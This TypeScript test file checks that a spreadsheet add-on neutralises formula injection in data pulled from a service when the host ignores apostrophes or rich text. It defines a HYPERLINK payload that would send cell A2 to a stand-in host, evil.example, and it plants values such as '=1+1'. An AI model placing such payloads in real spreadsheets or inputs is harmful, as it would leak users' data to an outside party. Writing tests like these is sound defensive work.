/** Formulas from the service where the platform does not honour the apostrophe, or not even rich text. */
import { describe, expect, it } from 'vitest';
import { messages, STATUS } from '../support/scenario';
import { formulasOf, openHostileWorld, json } from './support/hostile-world';

const EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"click")';
const contacts = (memo: string) =>
  json('contacts', {
    data: Array.from({ length: 40 }, (_, i) => ({
      id: i === 3 ? '=1+1' : `c${i}`,
      companyName: i % 2 === 0 ? EVIL : `Firm ${i}`,
      registrationNumber: `12481${String(i).padStart(5, '0')}`,
      phone: '+82 10 1234 5678',
      ceoName: '@x',
      memo: i === 5 ? memo : '-5',
    })),
    meta: { total: 40 },
  });

describe('where an apostrophe is ignored', () => {
  it('rich text keeps what the service sends as texts, pull after pull, and nothing looks edited', async () => {
    const world = await openHostileWorld([contacts('007')], { host: { apostrophes: 'ignored' } });
    for (const _ of [1, 2]) {
      expect(messages(world.run('menuPullContacts'))).toMatch(/^"Contacts": 40 records pulled\.[^⚠]*$/);
      expect(formulasOf(world.book)).toEqual([]);
    }
    const rows = world.book.sheet('Contacts').records();
    expect(rows.map(row => row['Company ★'])).toContain(EVIL);
    expect(new Set(rows.map(row => row['Mobile']))).toEqual(new Set(['+82 10 1234 5678']));
    await world.service.answer(contacts('=2+2'));
    world.run('menuPullContacts');
    expect(formulasOf(world.book)).toEqual([]);
    world.book.as(world.kim).select('Contacts');
    expect(messages(world.run('menuPreview'))).toBe('"Contacts": nothing to send.');
  });

  it('takes a number of calls that does not grow with the rows', async () => {
    const calls: number[] = [];
    for (const rows of [50, 500]) {
      const data = Array.from({ length: rows }, (_, i) => ({
        id: `t${i}`,
        name: i % 3 === 0 ? EVIL : `x${i}`,
      }));
      const world = await openHostileWorld([json('tags', { data, meta: { total: rows } })], {
        host: { apostrophes: 'ignored' },
      });
      const { byMember } = world.run('menuPullTags').calls;
      expect(formulasOf(world.book)).toEqual([]);
      calls.push(
        ['Range.setRichTextValues', 'Range.setValues', 'Range.getFormulas', 'Range.getValues']
          .map(member => byMember[member] ?? 0)
          .reduce((a, b) => a + b),
      );
    }
    expect(calls[1]).toBe(calls[0]);
  });
});

describe('where the look at what was written fails', () => {
  it.each([['apostrophes'], ['apostrophes', 'rich text']])(
    'leaves no formula live, whichever look it is (%s ignored)',
    async (...ignored) => {
      const host = {
        apostrophes: 'ignored',
        ...(ignored.length > 1 ? { richText: 'formula' as const } : {}),
      } as const;
      const count =
        (await openHostileWorld([contacts('=2+2')], { host })).run('menuPullContacts').calls.byMember[
          'Range.getFormulas'
        ] ?? 0;
      expect(count).toBeGreaterThan(1);
      let failed = 0;
      for (let nth = 1; nth <= count; nth++) {
        const world = await openHostileWorld([contacts('=2+2')], { host });
        // The second look fails as well.
        const exceptions = [0, 1].map(i => ({
          member: 'Range.getFormulas',
          nth: nth + i,
          when: 'before' as const,
        }));
        const result = world.run('menuPullContacts', [], { exceptions });
        if (!/40 records pulled/.test(messages(result))) failed++;
        expect(formulasOf(world.book), `call ${nth}`).toEqual([]);
        world.run('menuPullContacts');
        expect(
          world.book
            .sheet('Contacts')
            .column('ID')
            .filter(id => id !== '').length,
          `call ${nth}`,
        ).toBeGreaterThan(38);
      }
      expect(failed).toBeGreaterThan(0);
    },
  );
});

describe('where rich text runs too', () => {
  const rules = { host: { apostrophes: 'ignored', richText: 'formula' } } as const;

  it('the cell is emptied and named, its row says so, and nothing is sent for it', async () => {
    const world = await openHostileWorld([contacts('=2+2')], rules);
    const said = messages(world.run('menuPullContacts'));
    expect(formulasOf(world.book)).toEqual([]);
    expect(said).toMatch(/cells were emptied.*"Contacts" A2/);
    const sheet = world.book.sheet('Contacts');
    expect(sheet.column('Company ★')[0]).toBe('');
    expect(String(sheet.cell([STATUS, 2]).value)).toMatch(/Company/);
    world.run('menuPullContacts');
    expect(formulasOf(world.book)).toEqual([]);
    world.book.as(world.kim).select('Contacts');
    await world.service.requests();
    world.run('menuPush');
    expect((await world.service.requests()).filter(({ method }) => method !== 'GET')).toEqual([]);
  });

  it('Status, history and hidden sheets hold no formula either', async () => {
    const world = await openHostileWorld(
      [
        json(
          'tags',
          {
            data: [
              { id: 't1', name: 'a' },
              { id: '=1+1', name: EVIL },
            ],
            meta: { total: 2 },
          },
          { method: 'GET' },
        ),
        json('tags', { message: EVIL }, { method: 'PUT', status: 422 }),
      ],
      rules,
    );
    world.run('menuPullTags');
    world.book.as(world.kim).select('Tags');
    world.book.as(world.kim).type('Tags', ['Name ★', 2], 'b');
    world.run('menuPush');
    world.run('menuHistory');
    expect(formulasOf(world.book)).toEqual([]);
  });
});
